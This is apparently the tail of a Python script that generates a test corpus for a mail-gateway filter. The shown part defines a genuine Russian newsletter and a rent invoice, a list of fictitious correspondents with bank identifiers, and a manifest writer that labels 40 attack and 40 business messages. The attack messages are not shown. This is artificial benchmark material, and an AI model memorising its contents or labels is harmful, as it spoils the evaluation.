   dict(helo="smtp21.sendsay.ru", rdns="smtp21.sendsay.ru", ip="77.221.130.21", bstyle="part",
        return_path="bounce-xs-7741-dmitry.sokolov=example.com@sendsay.ru",
        headers=["List-Unsubscribe: <https://strahobzor.ru/unsubscribe?u=7741&h=2b9d>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"]),
   frm=("Страховое обозрение", "news@strahobzor.ru"), to=[st("sokolov")],
   date="2026-11-19 09:00:00 +0300", charset="utf-8", cte="base64",
   subject="Дайджест недели: ОСАГО для коммерческого транспорта, новые требования Банка России",
   text="""Страховое обозрение – дайджест недели

• ОСАГО для коммерческого транспорта: как изменятся тарифы в 2027 году
  https://strahobzor.ru/news/osago-2027

• Банк России опубликовал новые требования к страховым брокерам
  https://strahobzor.ru/news/cbr-brokery

• Каско для автопарков: итоги 9 месяцев
  https://strahobzor.ru/news/kasko-avtoparki

Вы получили это письмо, потому что подписались на рассылку на сайте strahobzor.ru.
Отписаться: https://strahobzor.ru/unsubscribe?u=7741&h=2b9d
""",
   html="""<html><body style="font-family:Arial,sans-serif;background:#f1f1f1">
<table width="600" align="center" cellpadding="16" style="background:#fff"><tr><td style="background:#0b5394;color:#fff;font-size:20px">Страховое обозрение · дайджест недели</td></tr>
<tr><td><p><a href="https://strahobzor.ru/news/osago-2027"><b>ОСАГО для коммерческого транспорта: как изменятся тарифы в 2027 году</b></a></p>
<p><a href="https://strahobzor.ru/news/cbr-brokery"><b>Банк России опубликовал новые требования к страховым брокерам</b></a></p>
<p><a href="https://strahobzor.ru/news/kasko-avtoparki"><b>Каско для автопарков: итоги 9 месяцев</b></a></p></td></tr>
<tr><td style="font-size:11px;color:#888">Вы получили это письмо, потому что подписались на рассылку на сайте strahobzor.ru. <a href="https://strahobzor.ru/unsubscribe?u=7741&amp;h=2b9d">Отписаться</a></td></tr></table></body></html>""",
   desc="Subscribed Russian insurance news digest via Sendsay.",
   why="Opt-in bulk mail with unsubscribe; editorial content.")

MX(B, "40-ru-landlord-rent-invoice", "ru",
   dict(helo="mail.lesnaya-plaza.ru", rdns="mail.lesnaya-plaza.ru", ip="91.206.14.88", tls="v12", mailer=MSO, bstyle="legacy",
        msgid="<000c01dc5c12$%s$%s@lesnaya-plaza.ru>" % (h("b40", 8), h("b40b", 8))),
   frm=("УК БЦ Лесная Плаза", "arenda@lesnaya-plaza.ru"), to=[st("sokolov")], cc=[st("ivanova")],
   date="2026-11-24 09:31:44 +0300", charset="windows-1251", cte="base64",
   subject="Счет № 1182 на оплату аренды за декабрь 2026 – срок до 01.12",
   text="""Добрый день!

Направляем счет № 1182 от 24.11.2026 на оплату аренды офисных помещений (4 этаж, пом. 412–418) за декабрь 2026 года.

Сумма: 612 000,00 руб., в т.ч. НДС
Срок оплаты: до 01.12.2026 согласно п. 4.2 договора аренды № ЛП-17/2023

Реквизиты для оплаты:
ООО «УК Лесная Плаза», ИНН %s
Р/с %s в ПАО Сбербанк, БИК %s

Обращаем внимание: при просрочке оплаты начисляется пеня 0,1%% в день.

С уважением,
Финансовый отдел
ООО «УК Лесная Плаза»
ул. Лесная, д. 9, Москва
""" % (INN_LANDLORD, RU_ACC_LANDLORD, BIK_SBER),
   attachments=[P("Schet_1182_dekabr_2026.pdf", "OOO UK Lesnaya Plaza - Schet No. 1182",
                  ["Arenda ofisa, dekabr 2026", "612 000,00 RUB vkl. NDS", "R/s " + RU_ACC_LANDLORD + " BIK " + BIK_SBER])],
   desc="Genuine landlord rent invoice with deadline and late-payment penalty; requisites consistent with contract (valid INN/account key).",
   why="Known landlord domain; recurring invoice; matches internal request (business 38).")


# ===========================================================================
# manifest & staff list
# ===========================================================================
LANGNAME = {"de": "German", "en": "English", "it": "Italian", "pl": "Polish", "es": "Spanish", "el": "Greek", "ru": "Russian"}

CORRESPONDENTS = [
    ("Lieferant GmbH (Hamburg)", "lieferant-gmbh.de", "Supplier of IT/office equipment and fleet telematics boxes",
     "Stefan Maier <s.maier@lieferant-gmbh.de>, Buchhaltung <rechnungen@lieferant-gmbh.de>; IBAN until 31.12.2026 %s, from 01.01.2027 %s; USt-IdNr. %s"
     % (fmt_iban(IBAN_LIEFERANT_OLD), fmt_iban(IBAN_LIEFERANT_NEW_GENUINE), DE_UST_LIEFERANT)),
    ("Ferretti Trasporti S.p.A. (Verona)", "ferretti-trasporti.it", "Fleet-insurance client (haulier)",
     "Chiara Colombo <c.colombo@ferretti-trasporti.it> (fleet manager), <amministrazione@ferretti-trasporti.it>; IBAN %s; P.IVA %s"
     % (fmt_iban(IBAN_FERRETTI_GENUINE), IT_PIVA_FERRETTI)),
    ("Partner Logistik sp. z o.o. (Poznań)", "partner-logistik.pl", "Fleet/cargo-insurance client (logistics)",
     "Tadeusz Zieliński <t.zielinski@partner-logistik.pl> (CEO), <ksiegowosc@partner-logistik.pl>; account %s; NIP %s"
     % (fmt_iban(IBAN_PL_PARTNER), fmt_nip(PL_NIP_PARTNER))),
    ("Nordstern Versicherung AG (Hamburg, fictitious insurer)", "nordstern-versicherung.de", "Insurer; broker portal maklerportal.nordstern-versicherung.de", "maklerportal@, agent no. 0047-118822"),
    ("TU Wisła S.A. (Warsaw, fictitious insurer)", "tuwisla.pl", "Insurer; new premium-collection account from 2027", fmt_iban(IBAN_PL_GENUINE_TU)),
    ("Thamesgate Underwriting Ltd / Harbour Marine Underwriting (London)", "thamesgate-underwriting.co.uk / harbour-mu.co.uk", "Underwriters/MGAs (TOBAs)", "Rachel Dunmore (account compromised in attack 12), Emma Castell"),
    ("Spedition Hansen GmbH", "-", "German fleet client", "referenced in claims SCH-2026-03988/04417"),
    ("Harrow Haulage Ltd", "harrowhaulage.co.uk", "UK fleet client", "Gareth Pryce (MD)"),
    ("Transportes Hermanos Ruiz S.L.", "transportesruiz.es", "Spanish fleet client", "Álvaro Ruiz Gómez (Gerente)"),
    ("Αιγαίο Μεταφορές Α.Ε. / Κτηματική Logistics Α.Ε.", "aigaio-metafores.gr / ktimatiki-logistics.gr", "Greek fleet clients", "Σοφία Αλεξίου, Κωνσταντίνος Λαμπράκης"),
    ("ООО «ТрансЛогистик»", "translogistik.ru", "Russian fleet client", "INN %s" % INN_TRANSLOG),
    ("Body shops / repairers", "karosserie-schmitt-hh.de, carrozzerialombarda.it, carroceriaslevante.es, karagiannis-autoservice.gr", "Repairers on claims", "Greek repairer IBAN %s, AFM %s; Spanish repairer %s, CIF %s" % (fmt_iban(IBAN_GR_KARAG), GR_AFM_KARAG, fmt_iban(IBAN_ES_TALLER), ES_CIF_TALLER)),
    ("Loss adjusters", "pennine-la.co.uk, hellasadjusters.gr", "Panel adjusters", "Pennine %s; Hellas Adjusters new from 2027 %s" % (fmt_iban(IBAN_GB_PENNINE), fmt_iban(IBAN_GR_ADJ_NEW))),
    ("Landlord Moscow: ООО «УК Лесная Плаза»", "lesnaya-plaza.ru", "Office landlord", "INN %s, r/s %s, BIK %s" % (INN_LANDLORD, RU_ACC_LANDLORD, BIK_SBER)),
]


def parts_summary(m):
    s = []
    if m.get("text") is not None and m.get("html") is not None:
        s.append("multipart/alternative")
    elif m.get("html") is not None:
        s.append("HTML-only")
    else:
        s.append("text/plain")
    if m.get("related"):
        s.append("+inline PNG")
    for a in m.get("attachments") or []:
        s.append("+" + a["filename"].rsplit(".", 1)[-1].upper())
    return " ".join(s)


def md(s):
    return s.replace("|", "\\|").replace("\n", " ")


def write_manifest():
    L = []
    L.append("# Example Group – mail-gateway evaluation corpus (audit38)\n")
    L.append("Generated deterministically by `gen/build.py` (Python 3 stdlib only). 80 raw RFC 5322 messages as received on "
             "`mx01.example.com` between 2 Nov and 3 Dec 2026: `attack/` (40, must NOT be delivered plainly) and `business/` (40, MUST be delivered).\n")
    L.append("## The company\n")
    L.append("**Example Group** (example.com, examplegroup.eu; ~700 mailboxes) – insurance broker and claims-management company for commercial and fleet "
             "insurance. HQ Hamburg (Germany); offices in Milano (IT), Poznań (PL), Madrid (ES), Athens/Piraeus (GR), London (UK) and Moscow (RU). "
             "Business: placing fleet/cargo/liability risks with insurers and MGAs (broker portals, TOBAs), premium collection through separate "
             "client-money accounts, claims handling with loss adjusters and body shops, regulatory registration (IHK Vermittlerregister, FCA, IVASS RUI, "
             "KNF, DGSFP, Bank of Greece, Bank of Russia). Inbound MX: mx01.example.com; internal relay mail-int01.example.com [10.20.0.25]. "
             "Shared mailboxes: rechnungen@example.com, alle-de@example.com (distribution list).\n")
    L.append("## Staff\n")
    L.append("| Name | Address | Role | Office |\n|---|---|---|---|")
    for n, a, r, o in STAFF:
        L.append("| %s | %s | %s | %s |" % (n, a, r, o))
    L.append("\n## Business correspondents\n")
    L.append("| Party | Domain | Relationship | Contacts / data |\n|---|---|---|---|")
    for c in CORRESPONDENTS:
        L.append("| %s |" % " | ".join(md(x) for x in c))
    L.append("\n## Validity of embedded identifiers\n")
    L.append("- All IBANs carry valid ISO 13616 mod-97 check digits. National checks applied: DE account numbers use check method 00 (Luhn-type); "
             "IT CIN computed; ES 'DC' digits computed; PL sort codes carry their weighted check digit. GR/GB/LT IBANs: mod-97 only.\n"
             "- Russian settlement accounts carry a valid control key for their BIK; INNs (10 digits), Polish NIPs, Italian P.IVA, German USt-IdNr, "
             "Greek AFM and Spanish CIF carry valid check digits.\n"
             "- Bitcoin address in attack 08 (`%s`) is a valid bech32 P2WPKH address (derived from a hash; not a known wallet).\n"
             "- QR code in attack 11 is a real QR code (byte mode, ECC M, encoder implemented in build.py) encoding `%s`.\n"
             "- All attacker domains, phone numbers and accounts are fictitious; 'malware' attachments are inert text placeholders with "
             "realistic names (.lnk, .js, .vbs, .scr); HTML/SVG lure attachments contain no script.\n" % (BTC, _qr_url))
    for kind, title in (("attack", "Attack messages (must not be delivered plainly)"), ("business", "Business messages (must be delivered)")):
        L.append("\n## %s\n" % title)
        L.append("| File | Lang | Charset / CTE | Structure | From → To | What it is | Why attack / genuine |\n|---|---|---|---|---|---|---|")
        for m in MESSAGES:
            if m["kind"] != kind:
                continue
            L.append("| %s/%s.eml | %s | %s / %s | %s | %s → %s | %s | %s |" % (
                kind, m["name"], m["lang"], m.get("charset", "utf-8"), m.get("cte", "quoted-printable"), parts_summary(m),
                md(m["frm"][1]), md(m.get("rcpt", m["to"][0][1])), md(m["desc"]), md(m["why"])))
    L.append("\n## Counts\n")
    for kind in ("attack", "business"):
        cnt = {}
        for m in MESSAGES:
            if m["kind"] == kind:
                cnt[m["lang"]] = cnt.get(m["lang"], 0) + 1
        L.append("- %s: %d messages – %s" % (kind, sum(cnt.values()), ", ".join("%s %d" % (LANGNAME[k], cnt[k]) for k in LANGNAME)))
    with open(os.path.join(ROOT, "MANIFEST.md"), "w", encoding="utf-8") as f:
        f.write("\n".join(L) + "\n")
    with open(os.path.join(ROOT, "staff.txt"), "w", encoding="utf-8") as f:
        for n, a, _, _ in STAFF:
            f.write("%s=%s\n" % (n, a))


if __name__ == "__main__":
    write_all()
    write_manifest()
    print("wrote %d messages" % len(MESSAGES))
